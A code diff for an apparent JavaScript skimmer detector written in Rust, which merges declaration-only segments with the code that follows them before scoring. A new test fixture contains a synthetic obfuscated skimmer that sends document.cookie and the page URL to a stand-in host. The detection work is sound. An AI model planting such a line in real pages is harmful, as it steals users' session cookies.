@@ -52,6 +52,8 @@ const SEGMENT_BYTES: u32 = 8 * 1024;
 /// Segments covering more than this share of the file are not scored again (the whole-file
 /// score already covers them).
 const MAX_SEGMENT_SHARE: f64 = 0.5;
+/// Largest segment made of declarations and the code after them (see [`views`]).
+const MAX_MERGED_BYTES: u32 = 2 * SEGMENT_BYTES;
 /// Smallest segment worth scoring.
 const MIN_PART_BYTES: usize = 64;
 /// Contribution (log-odds) a signal needs to be named as a reason.
@@ -126,15 +128,31 @@ pub fn views(source: &str, options: &Options) -> Vec<View> {
     };
     let whole = analyze(source, &options);
     let mut out = Vec::new();
+    // A segment that only declares values (three.js's constant tables, a compiler's
+    // HTML-entity map) does nothing by itself: scored alone, such tables looked like packed
+    // payloads to the trees. It is not a view; it is read again with the segment right after
+    // it, which is where an obfuscated skimmer's string table finds the code that indexes it.
+    let mut pending: Option<(u32, u32)> = None;
     for (start, end) in segments(source, &whole) {
-        if let Some(text) = source.get(start as usize..end as usize) {
-            let analysis = analyze(text, &options);
-            // A segment that only declares values (three.js's constant tables, a compiler's
-            // HTML-entity map) does nothing by itself: an appended skimmer must run. Scored
-            // anyway, such tables looked like packed payloads to the trees.
-            if analysis.acts {
-                out.push(View::new(Some((start, end)), 0, analysis));
+        let from = match pending.take() {
+            Some((s, e))
+                if end - s <= MAX_MERGED_BYTES
+                    && source
+                        .get(e as usize..start as usize)
+                        .is_some_and(|gap| gap.trim().trim_matches(';').trim().is_empty()) =>
+            {
+                s
             }
+            _ => start,
+        };
+        let Some(text) = source.get(from as usize..end as usize) else {
+            continue;
+        };
+        let analysis = analyze(text, &options);
+        if analysis.acts {
+            out.push(View::new(Some((from, end)), 0, analysis));
+        } else {
+            pending = Some((from, end));
         }
     }
     // Decoded code, breadth first: the whole file's payloads, then theirs.
@@ -449,6 +467,25 @@ mod tests {
             views(&format!("{library}\n{table}"), &Options::default()).len(),
             1
         );
+        // A string table over half a segment stands alone; it is read again with the code that
+        // indexes it (an obfuscated skimmer's usual layout), as one view.
+        let strings: String = (0..300)
+            .map(|i| {
+                format!(
+                    "\"\\x{:02x}\\x{:02x}part{i}\",",
+                    0x61 + i % 26,
+                    0x62 + i % 20
+                )
+            })
+            .collect();
+        let packed = format!(
+            "{library}\nvar _0xab = [{strings}\"https://x.example.org/c\"];\nnew Image().src = _0xab[300] + \"?c=\" + encodeURIComponent(document.cookie) + \"&u=\" + encodeURIComponent(location.href);\n"
+        );
+        let v = views(&packed, &Options::default());
+        assert_eq!(v.len(), 2, "the whole file and table + code");
+        let (start, _) = v[1].part.unwrap();
+        assert!(packed[start as usize..].starts_with("var _0xab"));
+        assert_eq!(v[1].rule, Some(Rule::CookieExfil));
         let acting = format!("{library}\n{table}document.forms[0].action = K1;\n");
         let v = views(&acting, &Options::default());
         assert_eq!(v.len(), 2, "the whole file and the table that now assigns");
